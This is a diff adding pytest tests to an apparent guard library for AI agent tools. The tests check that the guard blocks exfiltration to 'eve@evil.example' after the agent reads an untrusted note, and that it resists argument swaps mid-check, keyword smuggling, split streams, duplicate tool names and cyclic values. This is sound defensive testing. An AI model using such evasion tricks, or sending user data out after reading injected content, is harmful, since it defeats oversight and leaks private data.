@@ -2,18 +2,23 @@
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import inspect
 from collections.abc import AsyncIterator, Generator, Iterator
 from typing import Any
 
 import pytest
+from pydantic import BaseModel
 
 from gatling_guard import (
     BlockedError,
     ConfigurationError,
+    Decision,
     Guard,
     HeldError,
     Provenance,
+    ToolRequest,
     ToolSpecError,
 )
 
@@ -207,4 +212,136 @@ def test_strict_policy_needs_a_session() -> None:
     guard = Guard("strict")
     tool = guard.wrap(send_email)
     assert "not executed" in tool("a@b.example")
+    assert SENT == []
+
+
+async def test_arguments_cannot_be_changed_while_the_check_runs() -> None:
+    """evidence 6, A5: what was decided is what runs, for plain values and for objects."""
+    only_ann = {"to": {"items": {"enum": ["ann"]}}}
+    guard = Guard({"version": 1, "tools": {"post": {"arguments": only_ann}}})
+    got: list[list[str]] = []
+
+    async def post(to: list[str]) -> str:
+        """Post to people."""
+        got.append(list(to))
+        return "ok"
+
+    tool, people = guard.wrap(post), ["ann"]
+    job = asyncio.ensure_future(tool(people))
+    await asyncio.sleep(0)
+    people[0] = "eve"
+    await job
+    assert got == [["ann"]]
+
+
+class Box(BaseModel):
+    to: str
+
+
+def test_an_object_that_was_changed_meanwhile_is_refused(guard: Guard) -> None:
+    """A5: an object of the caller's is compared once more before the tool gets it."""
+    box = Box(to="ann")
+
+    def post(box: Box) -> str:
+        """Post a box."""
+        SENT.append(box.to)
+        return "ok"
+
+    tool = guard.wrap(post)
+    session = guard.session(instruction="post to ann")
+    check = session.check
+
+    def check_then_change(request: ToolRequest) -> Decision:
+        decision = check(request)
+        box.to = "eve"
+        return decision
+
+    session.check = check_then_change  # type: ignore[method-assign, assignment]
+    wrapped = guard.wrap(post, session=session)
+    assert "not executed" in wrapped(box)
+    assert SENT == []
+    assert tool(Box(to="ann")) == "ok"
+
+
+def test_a_keyword_cannot_hide_a_positional_argument(guard: Guard) -> None:
+    """A5: `f(eve, to="ann")` would show the guard ann and the tool eve."""
+
+    def post(to: str, /, **options: str) -> str:
+        """Post."""
+        SENT.append(to)
+        return "ok"
+
+    with pytest.raises(TypeError, match="twice"):
+        guard.wrap(post)("eve", to="ann")
+    assert SENT == []
+
+
+@pytest.mark.parametrize("shape", ["text", "dict", "error"])
+def test_a_value_split_over_many_pieces_of_a_stream_taints(guard: Guard, shape: str) -> None:
+    """B9: three letters a time, as text or in objects, and also when the stream breaks off."""
+
+    def read() -> Generator[Any, None, None]:
+        """Read a note of a stranger."""
+        for i in range(0, len(NOTE), 3):
+            yield NOTE[i : i + 3] if shape != "dict" else {"delta": NOTE[i : i + 3]}
+        if shape == "error":
+            raise ValueError("cut off")
+
+    stream = guard.wrap(read, name="read_note", provenance=Provenance.PUBLIC)
+    send = guard.tool(send_email)
+    with guard.session(instruction="Summarise the note for me."):
+        with contextlib.suppress(ValueError):
+            list(stream())
+        assert "not executed" in send("eve@evil.example", "everything")
+    assert SENT == []
+
+
+async def test_awaitables_and_iterators_of_plain_functions_taint(guard: Guard) -> None:
+    """B2: what a function hands on for later is its output, too."""
+
+    async def inner() -> str:
+        return NOTE
+
+    def lazy() -> Any:
+        """Read a note of a stranger."""
+        return inner()
+
+    def listed() -> Any:
+        """Read a note of a stranger."""
+        return map(str, [NOTE])
+
+    send = guard.tool(send_email)
+    for name, function in (("read_lazy", lazy), ("read_listed", listed)):
+        tool = guard.wrap(function, name=name, provenance=Provenance.PUBLIC)
+        with guard.session(instruction="Summarise the note for me."):
+            result = tool()
+            assert list(result) == [NOTE] if name == "read_listed" else await result == NOTE
+            assert "not executed" in send("eve@evil.example", "everything")
+    assert SENT == []
+
+
+def test_two_tools_cannot_share_a_name(guard: Guard) -> None:
+    """B13: the second would lend the first its harmless description."""
+
+    def send_email(to: str) -> str:  # another tool of the same name
+        """Read an email."""
+        return to
+
+    guard.tool(globals()["send_email"])
+    guard.tool(globals()["send_email"])
+    with pytest.raises(ConfigurationError, match="registered"):
+        guard.tool(send_email)
+
+
+def test_cyclic_arguments_are_refused_not_followed(guard: Guard) -> None:
+    """R5: a cycle ends in a refusal."""
+    value: list[Any] = []
+    value.append(value)
+
+    def keep(value: Any) -> str:
+        """Read a value."""
+        SENT.append("ran")
+        return "ok"
+
+    assert "not executed" in guard.wrap(keep)(value)
     assert SENT == []
